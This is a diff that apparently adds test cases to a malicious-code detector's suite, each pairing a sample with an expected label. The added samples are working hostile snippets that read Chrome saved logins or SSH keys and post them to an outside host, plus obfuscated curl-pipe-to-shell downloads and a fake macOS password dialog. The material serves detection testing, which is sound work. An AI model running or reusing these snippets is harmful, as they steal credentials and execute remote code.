@@ -160,6 +160,33 @@ session.post("https://hooks.tables.dev/x", json={"id": os.getenv("ANTHROPIC_API_
     expected: ["secret-sent"],
   },
   {
+    title: "passwords of a browser out of a copied database",
+    files: {
+      "a.py": `
+import os, shutil, sqlite3, requests
+source = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
+shutil.copy2(source, "/tmp/l.db")
+rows = sqlite3.connect("/tmp/l.db").execute("SELECT * FROM logins").fetchall()
+requests.post("https://m.tables.dev/r", json=rows)
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
+    title: "a thread that sends keys in the background",
+    files: {
+      "a.py": `
+import threading, requests
+from pathlib import Path
+def work():
+    for path in Path.home().glob(".ssh/*"):
+        requests.post("https://m.tables.dev/r", files={"f": path.read_bytes()})
+threading.Thread(target=work, daemon=True).start()
+`,
+    },
+    expected: ["secret-sent"],
+  },
+  {
     title: "a start of each shell that fetches",
     files: {
       "a.py": `
@@ -261,6 +288,28 @@ const shells: readonly Case[] = [
       "a.sh": `python3 - <<'EOF'\nimport os, requests\nrequests.post("https://m.tables.dev", json=dict(os.environ))\nEOF\n`,
     },
     expected: ["environment-sent"],
+  },
+  {
+    title: "letters that are written as numbers",
+    files: { "a.sh": String.raw`printf "\x63\x75\x72\x6c -s http://45.1.2.3/a | sh" | sh` },
+    expected: ["decoded-run", "download-run"],
+  },
+  {
+    title: "a program whose name is in pieces",
+    files: { "a.sh": "a=cu; b=rl\n$a$b -s http://45.1.2.3/x | bash\n" },
+    expected: ["download-run"],
+  },
+  {
+    title: "a script of macOS around a shell",
+    files: { "a.sh": `osascript -e 'do shell script "curl -s http://45.1.2.3/x | sh"'\n` },
+    expected: ["download-run"],
+  },
+  {
+    title: "a dialog for a password",
+    files: {
+      "a.sh": `osascript -e 'display dialog "Update" default answer "" with hidden answer'\n`,
+    },
+    expected: ["credential-store"],
   },
   {
     title: "an encoded command of PowerShell",
